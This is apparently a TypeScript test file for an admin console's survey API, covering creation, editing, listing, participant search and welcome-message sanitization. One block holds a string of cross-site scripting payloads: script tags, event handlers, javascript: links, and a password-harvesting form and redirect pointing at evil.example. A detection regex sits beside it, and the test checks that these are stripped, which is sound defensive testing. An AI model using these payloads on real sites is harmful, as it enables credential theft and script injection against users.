import { and, desc, eq } from 'drizzle-orm';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { auditLog } from '../../db/schema/accounts.ts';
import { dpSurveyParts, surveys } from '../../db/schema/surveys.ts';
import { registerUser, type SignedInUser, updateUserRow } from '../../test/accounts.factory.ts';
import { buildTestApp, type TestApp } from '../../test/build-test-app.ts';
import { uniqueLetters } from '../../test/people.factory.ts';
import { answerAll, call, makeSurvey, startSurvey } from '../../test/surveys.factory.ts';

/* The console's Surveys area (issue 13): list, create, edit, participants and the preview. */
let t: TestApp;
let admin: SignedInUser;
const tag = uniqueLetters(8);
beforeAll(async () => {
  t = await buildTestApp();
  admin = await registerUser(t.app, { firstName: 'Console', lastName: 'Keeper' });
  await updateUserRow(t.app, admin.id, { isAdmin: true });
});
afterAll(() => t.close());

const body = (overrides: Record<string, unknown> = {}) => ({
  product: 'eq',
  titles: { en_GB: `Spring ${tag}`, fr: `Printemps ${tag}` },
  welcomeMessages: { en_GB: '<p>Welcome</p>', fr: '<p>Bienvenue</p>' },
  defaultLanguage: 'en_GB',
  validFrom: '2026-01-01',
  validTo: '2026-12-31',
  price: '49.50',
  layout: 'Default Layout',
  isUnlimitedAccess: false,
  resiliencyEnabled: false,
  ...overrides,
});

type Survey = {
  id: number;
  product: string;
  title: string;
  titles: Record<string, string>;
  welcomeMessages: Record<string, string>;
  accessCode: string;
  path: string;
  pricePence: number;
  layout: string;
  counts: { participants: number; started: number; completed: number };
};
const create = async (overrides: Record<string, unknown> = {}) => {
  const res = await call(t.app, admin, 'POST', '/admin/surveys', body(overrides));
  expect(res.status, JSON.stringify(res.body)).toBe(201);
  return res.body as unknown as Survey;
};
const lastAudit = async (action: string) =>
  (
    await t.app.db
      .select()
      .from(auditLog)
      .where(and(eq(auditLog.action, action), eq(auditLog.actorUserId, admin.id)))
      .orderBy(desc(auditLog.id))
      .limit(1)
  )[0];

const publicWelcome = async (product: string, accessCode: string, locale = 'en_GB') => {
  const res = await t.app.inject({
    method: 'GET',
    url: `/api/public/${product}/survey/access-code/${accessCode}/`,
    headers: { 'accept-language': locale },
  });
  expect(res.statusCode).toBe(200);
  return res.json().survey as { welcomeMessage: string; title: string; paymentAmount: number };
};

describe('POST /api/admin/surveys', () => {
  it('creates a survey with titles and welcome per language and price in pence, audited', async () => {
    const survey = await create();
    expect(survey).toMatchObject({
      product: 'eq',
      titles: { en_GB: `Spring ${tag}`, fr: `Printemps ${tag}` },
      pricePence: 4950,
      layout: 'Default Layout',
      path: `/eq/${survey.accessCode}`,
      counts: { participants: 0, started: 0, completed: 0 },
    });
    const fr = await publicWelcome('eq', survey.accessCode, 'fr');
    expect(fr).toMatchObject({ title: `Printemps ${tag}`, welcomeMessage: '<p>Bienvenue</p>' });
    expect(fr.paymentAmount).toBe(4950);
    const audit = await lastAudit('admin.surveys.create');
    expect(audit?.detail).toMatchObject({ surveyId: survey.id, product: 'eq', pricePence: 4950 });
  });

  it('a discovery process gets its three parts, titled in each language', async () => {
    const dp = await create({ product: 'dp', resiliencyEnabled: true, price: '0' });
    expect(dp.path).toBe(`/discovery-process/${dp.accessCode}`);
    const parts = await t.app.db
      .select({ titles: surveys.titles })
      .from(dpSurveyParts)
      .innerJoin(surveys, eq(surveys.id, dpSurveyParts.partSurveyId))
      .where(eq(dpSurveyParts.dpSurveyId, dp.id))
      .orderBy(dpSurveyParts.position);
    expect(parts.map((p) => p.titles.fr)).toEqual([
      `Printemps ${tag}: eq`,
      `Printemps ${tag}: values`,
      `Printemps ${tag}: behaviours`,
    ]);
  });

  it('bad input is a 400 with a message on each field, never a 500', async () => {
    const res = await call(
      t.app,
      admin,
      'POST',
      '/admin/surveys',
      body({
        titles: { fr: 'Seulement en français' },
        validFrom: '2026-12-31',
        validTo: '2026-01-01',
        price: '12.345',
        layout: 'No such layout',
      }),
    );
    expect(res.status).toBe(400);
    const errors = (res.body as unknown as { errors: Record<string, string[]> }).errors;
    expect(Object.keys(errors).sort()).toEqual(['price', 'titles.en_GB', 'validTo']);
    const layout = await call(t.app, admin, 'POST', '/admin/surveys', body({ layout: 'Nope' }));
    expect(layout.status).toBe(400);
    expect(Object.keys((layout.body as unknown as { errors: object }).errors)).toEqual(['layout']);
    const wrongQuestionnaire = await call(
      t.app,
      admin,
      'POST',
      '/admin/surveys',
      body({ questionnaire: 'values-core' }),
    );
    expect(wrongQuestionnaire.status).toBe(400);
    for (const price of ['-1', '1e3', '£5', '100000000']) {
      const priced = await call(t.app, admin, 'POST', '/admin/surveys', body({ price }));
      expect(priced.status, price).toBe(400);
    }
    const badDate = await call(
      t.app,
      admin,
      'POST',
      '/admin/surveys',
      body({ validTo: '2026-02-30' }),
    );
    expect(badDate.status).toBe(400);
  });
});

describe('PUT /api/admin/surveys/{id}', () => {
  it('changes the settings, refuses a new product, and is audited', async () => {
    const survey = await create();
    const res = await call(
      t.app,
      admin,
      'PUT',
      `/admin/surveys/${survey.id}`,
      body({ titles: { en_GB: `Autumn ${tag}` }, price: '10', isUnlimitedAccess: true }),
    );
    expect(res.status, JSON.stringify(res.body)).toBe(200);
    expect(res.body).toMatchObject({ titles: { en_GB: `Autumn ${tag}` }, pricePence: 1000 });
    expect((await lastAudit('admin.surveys.update'))?.detail).toMatchObject({
      surveyId: survey.id,
      pricePence: 1000,
    });
    const moved = await call(
      t.app,
      admin,
      'PUT',
      `/admin/surveys/${survey.id}`,
      body({ product: 'values' }),
    );
    expect(moved.status).toBe(400);
    expect((moved.body as unknown as { errors: object }).errors).toEqual({
      product: [expect.stringMatching(/product/i)],
    });
    const missing = await call(t.app, admin, 'PUT', '/admin/surveys/2147483647', body());
    expect(missing.status).toBe(404);
  });
});

describe('a hostile welcome message saved from the console', () => {
  const HOSTILE =
    '<meta http-equiv="refresh" content="0;url=https://evil.example/">' +
    '<p onclick="steal()" onmouseover="steal()">Welcome<script>steal()</script></p>' +
    '<div style="background:url(javascript:steal());width:expression(steal())">Styled</div>' +
    '<form action="https://evil.example/"><input name="password"><button>Sign in</button></form>' +
    '<img src="x" onerror="steal()">' +
    '<a href="JaVaScRiPt:steal()">Continue</a>' +
    '<a href="  javascript&colon;steal()">Again</a>' +
    '<iframe src="https://evil.example/"></iframe>' +
    '<svg onload="steal()"><script>steal()</script></svg>' +
    '<style>body{display:none}</style>' +
    '<object data="https://evil.example/x.swf"></object>';
  const CLEAN =
    '<p>Welcome</p><div>Styled</div>Sign in<img src="x" />' +
    '<a rel="noopener noreferrer">Continue</a><a rel="noopener noreferrer">Again</a>';
  const DANGER =
    /<script|<meta|<form|<iframe|<svg|<style|<object|\son\w+=|javascript|expression|style=/i;

  it('comes back clean from the public survey info, from POST and PUT alike', async () => {
    const created = await create({ welcomeMessages: { en_GB: HOSTILE, ar: HOSTILE } });
    for (const locale of ['en_GB', 'ar']) {
      const info = await publicWelcome('eq', created.accessCode, locale);
      expect(info.welcomeMessage).not.toMatch(DANGER);
      expect(info.welcomeMessage).toBe(CLEAN);
    }
    // Stored clean too, not only served clean.
    expect(created.welcomeMessages.en_GB).toBe(CLEAN);

    const plain = await create();
    const put = await call(
      t.app,
      admin,
      'PUT',
      `/admin/surveys/${plain.id}`,
      body({ welcomeMessages: { en_GB: HOSTILE } }),
    );
    expect(put.status).toBe(200);
    expect((await publicWelcome('eq', plain.accessCode)).welcomeMessage).toBe(CLEAN);
  });

  it('the preview answers exactly what the welcome page shows', async () => {
    const res = await call(t.app, admin, 'POST', '/admin/surveys/welcome-preview', {
      html: HOSTILE,
    });
    expect(res.status).toBe(200);
    expect(res.body).toEqual({ html: CLEAN });
  });
});

describe('GET /api/admin/surveys and its participants', () => {
  it('finds a survey by title in any language or by access code, with its counts', async () => {
    const survey = await create({ titles: { en_GB: `Listed ${tag}`, ar: `مسح ${tag}` } });
    const learner = await registerUser(t.app, { firstName: 'Lee', lastName: `Q${tag}` });
    await startSurvey(t.app, learner, 'eq', survey);
    const finisher = await registerUser(t.app, { firstName: 'Fin', lastName: `Z${tag}` });
    const free = await makeSurvey(t.app, { product: 'eq', title: `Free ${tag}` });
    const finished = await startSurvey(t.app, finisher, 'eq', free);
    await answerAll(t.app, finisher, 'eq', finished);

    const byTitle = await call(
      t.app,
      admin,
      'GET',
      `/admin/surveys?q=${encodeURIComponent(`مسح ${tag}`)}`,
    );
    expect(byTitle.status).toBe(200);
    expect((byTitle.body as unknown as { items: unknown[] }).items).toEqual([
      expect.objectContaining({ id: survey.id, participants: 1, completed: 0, pricePence: 4950 }),
    ]);
    const byCode = await call(t.app, admin, 'GET', `/admin/surveys?q=${survey.accessCode}`);
    expect((byCode.body as unknown as { total: number }).total).toBe(1);
    const freeRow = await call(t.app, admin, 'GET', `/admin/surveys?q=Free%20${tag}&product=eq`);
    expect((freeRow.body as unknown as { items: unknown[] }).items).toEqual([
      expect.objectContaining({ id: free.id, participants: 1, completed: 1 }),
    ]);
    const sorted = await call(
      t.app,
      admin,
      'GET',
      `/admin/surveys?q=${tag}&sort=participants&order=desc&pageSize=10`,
    );
    expect(sorted.status).toBe(200);
    const bad = await call(t.app, admin, 'GET', '/admin/surveys?sort=secret&product=xx');
    expect(bad.status).toBe(400);

    // Participants: progress in sections, completion and search by name.
    const people = await call(t.app, admin, 'GET', `/admin/surveys/${free.id}/participants`);
    expect(people.status).toBe(200);
    const [row] = (people.body as unknown as { items: Record<string, unknown>[] }).items;
    expect(row).toMatchObject({ email: finisher.email, completedAt: expect.any(String) });
    expect(row!.sectionsDone).toBe(row!.sectionsTotal);
    expect(row!.sectionsTotal).toBeGreaterThan(0);

    const someone = await call(
      t.app,
      admin,
      'GET',
      `/admin/surveys/${survey.id}/participants?q=lee%20q${tag}`,
    );
    expect((someone.body as unknown as { items: Record<string, unknown>[] }).items).toEqual([
      expect.objectContaining({ userId: learner.id, completedAt: null }),
    ]);
    const detail = await call(t.app, admin, 'GET', `/admin/surveys/${free.id}`);
    expect(detail.body).toMatchObject({
      counts: { participants: 1, started: 1, completed: 1 },
    });
    // Begun but unpaid: a participant who has not started a section.
    const paid = await call(t.app, admin, 'GET', `/admin/surveys/${survey.id}`);
    expect(paid.body).toMatchObject({ counts: { participants: 1, started: 0, completed: 0 } });
  });

  it('the options list the report layouts and the questionnaires by product', async () => {
    const res = await call(t.app, admin, 'GET', '/admin/survey-options');
    expect(res.status).toBe(200);
    const options = res.body as unknown as {
      layouts: string[];
      questionnaires: { key: string; product: string }[];
    };
    expect(options.layouts).toContain('Default Layout');
    expect(options.questionnaires).toContainEqual({ key: 'eq-core', product: 'eq' });
  });
});
